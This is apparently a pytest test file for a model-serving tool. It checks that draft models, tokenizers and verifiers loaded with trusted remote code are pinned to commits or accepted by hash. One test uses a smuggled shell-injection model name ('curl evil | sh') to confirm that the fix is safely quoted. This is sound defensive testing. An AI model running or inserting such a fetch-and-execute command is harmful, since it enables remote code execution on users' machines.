import json
import shlex
from pathlib import Path

import pytest

from medley.model.named_models import NamedModel, list_named_models, require_named_models
from medley.model.remote_code import Code, read_folder_code, read_hub_code
from medley.model.trust import Trust
from tests.model.hub_server import serving
from tests.problems import raises_problem

COMMIT, OTHER = "1" * 40, "2" * 40
CODE = Code("org/main", {"a.py": "0" * 64}, COMMIT)
GIVEN = Trust(is_given=True)
MTP = '{"method": "mtp", "num_speculative_tokens": 1}'
PINNED = json.dumps({"model": "org/draft", "revision": OTHER})
DRAFT = '{"model": "org/draft", "num_speculative_tokens": 3}'


def require(*words: str, code: Code | None = CODE, trust: Trust = GIVEN, is_start: bool = False) -> None:
    require_named_models(words, "org/main", code, trust, is_start=is_start)


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A draft model in a folder here, with code of its own."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "draft").mkdir()
    (tmp_path / "draft" / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "own.Draft"}}))
    (tmp_path / "draft" / "own.py").write_text("print('own')")
    return tmp_path / "draft"


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        (("--max-model-len", "9", "-O3", "--tokenizer-mode", "slow"), []),
        (("--speculative-config", DRAFT), [("--speculative-config", "org/draft", set())]),
        ((f"--speculative_config={DRAFT}",), [("--speculative-config", "org/draft", set())]),
        (("-sc", DRAFT), [("-sc", "org/draft", set())]),
        ((f"-sc={DRAFT}",), [("-sc", "org/draft", set())]),
        (("-sc.model=org/draft", "-sc.revision", COMMIT), [("-sc", "org/draft", {COMMIT})]),
        (("--speculative-config", '{"method": "ngram"}'), []),
        (("--spec-method", "ngram"), []),
        (("--speculative-config", MTP), [("--speculative-config", "org/main", set())]),
        (
            ("--speculative-config", '{"method": "mtp", "model": null}'),
            [("--speculative-config", "org/main", set())],
        ),
        (("-sc.method=dspark", f"-sc.revision={COMMIT}"), [("-sc", "org/main", {COMMIT})]),
        (("-sc.method=mtp", "-sc.model=null"), [("-sc", "org/main", set())]),
        (("-sc.model", '"org/draft"'), [("-sc", "org/draft", set())]),
        (("--spec-method", "qwen3_5_mtp"), [("--spec-method", "org/main", set())]),
        (("--spec-me=mtp", "--spec-model", "None"), [("--spec-model", "org/main", set())]),
        (("--spec_method=mtp", f"-sc.code-revision={COMMIT}"), [("-sc", "org/main", {COMMIT})]),
        (("--spec-model", "org/draft"), [("--spec-model", "org/draft", set())]),
        (
            ("--speculative-draft-model-path=org/draft", "--speculative-draft-model-revision", COMMIT),
            [("--speculative-draft-model-path", "org/draft", {COMMIT})],
        ),
        (
            ("--tokenizer", "org/words", "--tokenizer-revision=main"),
            [("--tokenizer", "org/words", {"main"})],
        ),
    ],
)
def test_models_that_a_command_names(
    words: tuple[str, ...], expected: list[tuple[str, str, set[str]]]
) -> None:
    models = [NamedModel(flag, name, frozenset(revisions)) for flag, name, revisions in expected]
    assert list(list_named_models(words, "org/main")) == models


@pytest.mark.parametrize(
    "words",
    [
        ("--speculative-config", DRAFT),
        ("-sc.model", "org/draft", "-sc.revision", "main"),
        ("-sc.model", "org/draft", "-sc.revision", COMMIT, "-sc.code_revision", OTHER),
        ("--spec-model=org/draft",),
        ("--speculative-draft-model-path", "org/draft"),
        ("--speculative-config", '{"model": "org/main"}'),
        ("--speculative-config", MTP),
        ("--spec-method", "mtp"),
        ("-sc", PINNED, "--speculative-config", MTP),
        ("-sc", PINNED, "--speculative_config.method=mtp"),
        ("-sc", MTP, f"-sc.revision={COMMIT}"),
        ("-sc.method=mtp", f"--speculative-config.revision={COMMIT}"),
        ("-sc.method=ngram", "--speculative-conf.method=mtp"),
        ("-sc.method=ngram", "-sc.method=mtp"),
        ("-sc", PINNED, "-sc", "{}", "--spec-method", "mtp"),
        ("-s", DRAFT),
        ("-s.model=org/draft",),
        ("--speculative-config", '{"method": "mtp", "model": null}'),
        ("--tokenizer", "org/words"),
    ],
)
def test_a_model_without_its_commit_does_not_go_with_trusted_code(words: tuple[str, ...]) -> None:
    with raises_problem("names no commit, and cannot go with --trust-remote-code"):
        require(*words)
    require(*words, code=None)


@pytest.mark.parametrize(
    "words",
    [
        ("--revision", OTHER),
        ("--code-revision=main",),
        ("--tokenizer-revision", "main"),
        ("--hf-overrides", '{"\\u0061uto_map": {"AutoModel": "org/x--own.Model"}}'),
    ],
)
def test_other_code_of_the_model_itself_is_refused(words: tuple[str, ...]) -> None:
    with raises_problem(words[0].partition("=")[0], "cannot go with --trust-remote-code"):
        require(*words)


def test_layers_of_the_model_itself_are_loaded_at_its_commit() -> None:
    fix = f"""--speculative-config '{{"model": "org/main", "revision": "{COMMIT}"}}'"""
    with raises_problem("org/main names no commit", fix=fix):
        require("--speculative-config", MTP)
    with raises_problem("org/main names no commit"):
        require("-sc.method=mtp", f"-sc.revision={COMMIT}", f"-sc.code_revision={OTHER}")
    require("-sc.method=mtp", f"-sc.revision={COMMIT}")
    require("--spec-method=mtp", f"-sc.revision={COMMIT}")


def test_a_name_in_a_table_is_one_word_of_a_fix() -> None:
    name = "x'; curl evil | sh; '"
    config = json.dumps({"model": name, "revision": "COMMIT"})
    with raises_problem("names no commit", fix=f"--speculative-config {shlex.quote(config)}"):
        require("--speculative-config", json.dumps({"model": name}))


def test_of_two_configurations_each_is_pinned_by_itself() -> None:
    pinned = {"method": "mtp", "revision": COMMIT}
    require("--speculative-config", PINNED, "-sc", json.dumps(pinned), "--spec-tokens", "1")
    require("--speculative-config", PINNED, "-sc.method=mtp", "-sc.revision", COMMIT)
    require("--speculative-config", PINNED, "-sc", '{"method": "ngram"}')


def test_a_commit_that_is_the_value_of_another_flag_pins_nothing() -> None:
    with raises_problem("-cc.backend -sc.revision=", "cannot go with --trust-remote-code"):
        require("-sc.method=mtp", "-cc.backend", f"-sc.revision={COMMIT}")


def test_what_is_pinned_as_the_model_itself_is_taken() -> None:
    require("--revision", COMMIT, "-sc.model=org/main", f"-sc.revision={COMMIT}", "--tokenizer-mode", "slow")


def test_the_code_of_a_folder_is_shown_and_taken_by_its_hash(folder: Path) -> None:
    code = read_folder_code(folder)
    assert code
    words = ("--speculative-draft-model-path", "./draft")
    with raises_problem(
        "./draft of --speculative-draft-model-path", cause="own.py", fix=f"--draft-code {code.fingerprint}"
    ):
        require(*words)
    accepting = Trust(is_given=True, draft_pins=(code.fingerprint,))
    require(*words, trust=accepting)
    (folder / "own.py").write_text("print('changed')")
    with raises_problem("./draft of"):
        require(*words, trust=accepting)
    (folder / "config.json").write_text("{}")
    require(*words)


FLAGS = ("--speculative-draft-model-path", "--speculative-config.model", "--tokenizer")


@pytest.mark.parametrize("flag", FLAGS)
def test_a_draft_with_code_is_refused_where_no_code_is_trusted(flag: str, folder: Path) -> None:
    """SGLang runs it without --trust-remote-code."""
    code = read_folder_code(folder)
    assert code
    for trust in (Trust(), GIVEN):
        with raises_problem(
            f"./draft of {flag.partition('.')[0]} has extra model code",
            cause=(code.fingerprint, "own.py"),
            fix="medley serve org/main --no-remote-code",
        ):
            require(flag, "./draft", code=None, trust=trust)
    require(flag, "./draft", code=None, trust=Trust(is_refused=True))
    (folder / "config.json").write_text("{}")
    require(flag, "./draft", code=None, trust=Trust())


@pytest.mark.parametrize("flag", FLAGS)
def test_the_hub_says_whether_a_draft_has_code(
    flag: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = json.dumps({"auto_map": {"AutoModel": "own.Draft"}}).encode()
    files = {"evil/draft/config.json": config, "evil/draft/own.py": b"pass", "org/plain/config.json": b"{}"}
    with serving(files, monkeypatch, tmp_path) as hub:
        require(flag, "evil/draft", code=None, trust=Trust())
        with raises_problem("evil/draft of -", cause=("own.py", str(hub.commit))):
            require(flag, "evil/draft", code=None, trust=Trust(), is_start=True)
        require(flag, "org/plain", code=None, trust=Trust(), is_start=True)


def test_the_code_of_a_repository_is_read_at_its_commit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = json.dumps({"auto_map": {"AutoModel": "own.Draft"}}).encode()
    files = {"org/draft/config.json": config, "org/draft/own.py": b"pass", "org/plain/config.json": b"{}"}
    with serving(files, monkeypatch, tmp_path) as hub:
        words = ("-sc.model=org/draft", f"-sc.revision={hub.commit}")
        require(*words)
        with raises_problem("org/draft of -sc", cause=("own.py", str(hub.commit))):
            require(*words, is_start=True)
        require("-sc.model=org/plain", f"-sc.revision={hub.commit}", is_start=True)


@pytest.mark.parametrize("words", [("-sc.model=org/draft",), ("--tokenizer", "org/draft")])
def test_a_repository_that_is_also_a_folder_here_is_refused(
    words: tuple[str, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    require(*words, code=None)
    (tmp_path / "org" / "draft").mkdir(parents=True)
    with raises_problem("org/draft is a repository of the hub, and a name in this folder"):
        require(*words, code=None)
    require("-sc.model=./org/draft", code=None)


VERIFIERS = {
    "config.json": '{"auto_map": {"AutoModel": "own.Draft"}, "speculators_config": {"verifier": '
    '{"name_or_path": "org/evil"}}}',
    "config.4.json": '{"\\u0073peculators_config": {"verifier": {"name_or_path": "org/evil"}}}',
}


@pytest.mark.parametrize("file", VERIFIERS)
def test_a_draft_whose_config_names_its_verifier_does_not_go_with_trusted_code(
    file: str, folder: Path
) -> None:
    require_named_models((), str(folder), read_folder_code(folder), GIVEN, is_start=False)
    (folder / file).write_text(VERIFIERS[file])
    code = read_folder_code(folder)
    assert code
    fixes = (f'medley serve org/evil -- --speculative-config \'{{"model": "{folder}"', "--no-remote-code")
    with raises_problem(f"{folder} is a draft for 'org/evil'", cause="no commit", fix=fixes):
        require_named_models((), str(folder), code, GIVEN, is_start=False)
    require_named_models((), str(folder), None, GIVEN, is_start=False)


@pytest.mark.parametrize("entry", [None, [], {}, {"verifier": None}, {"verifier": {"name_or_path": None}}])
def test_a_config_that_names_no_verifier_is_no_problem(entry: object, folder: Path) -> None:
    config = {"auto_map": {"AutoModel": "own.Draft"}, "speculators_config": entry}
    (folder / "config.json").write_text(json.dumps(config))
    require_named_models((), str(folder), read_folder_code(folder), GIVEN, is_start=False)


def test_the_verifier_of_a_repository_is_read_at_its_commit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = {"org/main/config.json": VERIFIERS["config.json"].encode(), "org/main/own.py": b"pass"}
    with serving(files, monkeypatch, tmp_path) as hub:
        code = read_hub_code("org/main")
        with raises_problem("org/main is a draft for", fix=f'"revision": "{hub.commit}"'):
            require(code=code)
